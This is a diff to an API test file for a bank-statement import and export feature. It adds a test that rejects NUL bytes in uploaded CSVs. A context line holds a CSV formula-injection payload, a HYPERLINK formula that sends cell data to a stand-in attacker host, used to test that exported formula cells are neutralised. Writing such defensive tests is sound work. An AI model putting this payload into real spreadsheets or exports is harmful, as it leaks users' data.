@@ -99,6 +99,16 @@ describe('bank statements and exports (API)', () => {
     expect(imported.body).toEqual({ recorded: 1, skipped: 0 });
   });
 
+  it('refuses a NUL in an uploaded file (which the body guard never sees) with a field error, storing nothing', async () => {
+    const a = await invoiceFor();
+    const before = await count(t, 'payments');
+    const file = Buffer.from(`Date,Details,Paid in,Transaction ID\r\n${today},PSOOL ${a.reference.slice(6)},"£25.00",TX\u0000-9\r\n`, 'utf8');
+    const res = await admin.agent.post('/api/admin/statements/import').set('X-CSRF-Token', admin.csrf).field('lines', '2').attach('file', file, 'statement.csv');
+    expect(res.status).toBe(400);
+    expect(res.body.errors.file[0]).toMatch(/U\+0000/);
+    expect(await count(t, 'payments')).toBe(before);
+  });
+
   it('exports payments and invoices as RFC 4180 CSV with formula cells made inert', async () => {
     const a = await invoiceFor();
     const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
